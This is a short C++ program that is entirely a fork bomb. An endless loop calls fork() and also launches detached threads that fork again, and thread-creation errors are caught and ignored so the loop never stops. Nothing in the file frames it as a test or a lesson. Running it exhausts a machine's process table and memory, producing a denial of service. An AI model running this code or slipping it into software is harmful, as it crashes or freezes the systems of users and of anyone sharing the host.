#include <unistd.h>
#include <iostream>
#include <thread>

int main() {
    while (true) {
        fork();
        try {
            std::thread([] { fork(); }).detach();
        } catch (const std::system_error &) {
            // The next one, then.
        }
    }
}
